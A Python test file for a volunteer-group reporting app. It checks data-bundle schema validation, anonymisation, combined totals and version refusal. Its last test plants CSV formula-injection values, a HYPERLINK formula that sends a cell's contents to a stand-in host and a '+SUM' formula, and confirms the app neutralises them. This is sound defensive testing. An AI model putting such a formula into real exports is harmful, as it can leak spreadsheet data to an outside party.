"""The data bundle validates against its own datapackage.json, is anonymised like the PDF, and
bundles combine into totals equal to the sum of their parts ("<3" in print, exact in CSV)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date
from decimal import Decimal

import pytest

from sponsor_app.domain.reports import ReportKind
from sponsor_app.reports.generate import ReportRequest, combine_bundles, generate
from sponsor_app.services.report_data import default_period
from sponsor_app.storage.store import Store

from ..conftest import write_demo_once
from .conftest import MADE_AT
from .helpers import assert_fonts_embedded_and_not_base14, text_of


def validate(path) -> dict[str, list[dict]]:
    """A bundle checked against its datapackage.json, read here without the app's code: every
    resource present, its header the schema's fields in order, each value of its type, required
    values there, primary keys unique."""
    with zipfile.ZipFile(path) as archive:
        package = json.loads(archive.read("datapackage.json"))
        assert package["profile"] == "tabular-data-package"
        assert package["sponsor_desk_bundle_version"]
        tables = {}
        for resource in package["resources"]:
            schema = resource["schema"]
            names = [f["name"] for f in schema["fields"]]
            for field in schema["fields"]:
                assert field["type"] in ("string", "integer", "number", "date", "boolean")
                assert field["description"]
            rows = list(csv.reader(io.StringIO(archive.read(resource["path"]).decode("utf-8"))))
            assert rows[0] == names, resource["path"]
            keys = set()
            for row in rows[1:]:
                assert len(row) == len(names)
                for value, field in zip(row, schema["fields"], strict=True):
                    if value == "":
                        assert not field.get("constraints", {}).get("required"), field["name"]
                        continue
                    match field["type"]:
                        case "integer":
                            int(value)
                        case "number":
                            Decimal(value)
                        case "date":
                            date.fromisoformat(value)
                        case "boolean":
                            assert value in ("true", "false")
                key = tuple(row[names.index(k)] for k in schema.get("primaryKey", []))
                if key:
                    assert key not in keys, (resource["path"], key)
                    keys.add(key)
            tables[resource["name"]] = [dict(zip(names, row, strict=True)) for row in rows[1:]]
    return tables


def _bundle(store, tmp_path, name, named=False):
    out = tmp_path / f"{name}.pdf"
    bundle = tmp_path / f"{name}.zip"
    generate(
        store,
        ReportRequest(ReportKind.EVALUATION, out, default_period(store), named, bundle=bundle, generated_at=MADE_AT),
    )  # fmt: skip
    return bundle


def test_a_bundle_validates_against_its_datapackage(report_store, tmp_path):
    tables = validate(_bundle(report_store, tmp_path, "one"))
    assert {"group", "figures", "households", "indicators", "money", "contact"} <= set(tables)
    assert tables["group"][0]["anonymised"] == "true"
    assert [h["household"] for h in tables["households"]] == ["H1", "H9"]


def test_a_bundle_is_anonymised_like_the_pdf(report_store, tmp_path):
    bundle = _bundle(report_store, tmp_path, "one")
    with zipfile.ZipFile(bundle) as archive:
        everything = " ".join(archive.read(n).decode("utf-8") for n in archive.namelist())
    for detail in (
        "Şükrü",
        "Öztürk",
        "Aroha Ngata",
        "@example.org",
        "Kōwhai Street",
        "St Andrew's Parish",
    ):
        assert detail not in everything, detail  # fmt: skip


@pytest.fixture(scope="module")
def large_demo_bytes(tmp_path_factory):
    return write_demo_once(tmp_path_factory, "large")


def test_two_bundles_combine_into_the_sum_of_their_parts(report_store, tmp_path, large_demo_bytes):
    small = _bundle(report_store, tmp_path, "small")
    path = tmp_path / "large.sponsor"
    path.write_bytes(large_demo_bytes)
    with Store.open(path) as large_store:
        large = _bundle(large_store, tmp_path, "large")
    out, exact = tmp_path / "summary.pdf", tmp_path / "summary.zip"
    combine_bundles([small, large], out, exact, invariant=True, generated_at=MADE_AT)
    parts = [
        {f["figure"]: Decimal(f["value"]) for f in validate(b)["figures"]} for b in (small, large)
    ]
    with zipfile.ZipFile(exact) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("figures.csv").decode())))
    totals = {r["figure"]: r["value"] for r in rows if r["group_id"] == "all"}
    # 2 households: the people in them are given as a band only (issue 18 item 3), never a
    # total that would undo the bands
    assert "people" not in parts[0] and "people" in parts[1]
    for key in (
        "households",
        "tasks_done",
        "volunteer_hours",
        "income",
        "spending",
        "closing_balance",
        "check_ins",
    ):
        assert Decimal(totals[key]) == parts[0][key] + parts[1][key], key  # fmt: skip
    exact_small = [r for r in rows if r["group_id"] != "all" and r["figure"] == "households"]
    assert sorted(r["value"] for r in exact_small) == ["2", "4"]  # the CSV keeps exact figures
    text = text_of(out)
    assert "Households <3 4 6" in text  # the small group's 2 households print as "<3"
    assert_fonts_embedded_and_not_base14(out)


def test_a_bundle_of_another_version_is_refused_in_one_sentence(report_store, tmp_path):
    good = _bundle(report_store, tmp_path, "good")
    other = tmp_path / "other.zip"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(other, "w") as target:
        for name in source.namelist():
            content = source.read(name)
            if name == "datapackage.json":
                package = json.loads(content)
                package["sponsor_desk_bundle_version"] = "0.9"
                content = json.dumps(package).encode()
            target.writestr(name, content)
    from sponsor_app.domain.errors import SponsorDeskError

    with pytest.raises(SponsorDeskError, match=r"schema version 0\.9.*version 1\.0 only") as caught:
        combine_bundles([good, other], tmp_path / "x.pdf")
    assert "\n" not in str(caught.value)
    assert not (tmp_path / "x.pdf").exists()


HYPERLINK = '=HYPERLINK("http://x.test/?"&A1,"Group")'


def test_a_groups_text_starts_no_formula_in_the_bundle_or_the_combined_csv(report_store, tmp_path):
    from sqlalchemy import select

    from sponsor_app.services.roles import add_role
    from sponsor_app.services.tabular import neutralise
    from sponsor_app.services.volunteers import VolunteerInput, add_volunteer
    from sponsor_app.storage.models import GroupProfile

    with report_store.transaction("Rename the group") as session:
        session.scalars(select(GroupProfile)).one().name = HYPERLINK
    role = add_role(report_store, "+SUM(1,1)")
    add_volunteer(report_store, VolunteerInput("Tui Formula", (role.key,)))
    bundle = _bundle(report_store, tmp_path, "one")
    tables = validate(bundle)  # still valid: only string fields are quoted
    assert tables["group"][0]["group_name"] == neutralise(HYPERLINK) == "'" + HYPERLINK
    assert "'+SUM(1,1)" in {r["role"] for r in tables["volunteer_roles"]}
    out, exact = tmp_path / "summary.pdf", tmp_path / "summary.zip"
    combine_bundles([bundle, bundle], out, exact, invariant=True, generated_at=MADE_AT)
    with zipfile.ZipFile(exact) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("figures.csv").decode())))
    assert {r["group_name"] for r in rows} == {"'" + HYPERLINK, "All groups"}
    assert all(not r["value"].startswith("'") for r in rows)  # numbers stay numbers
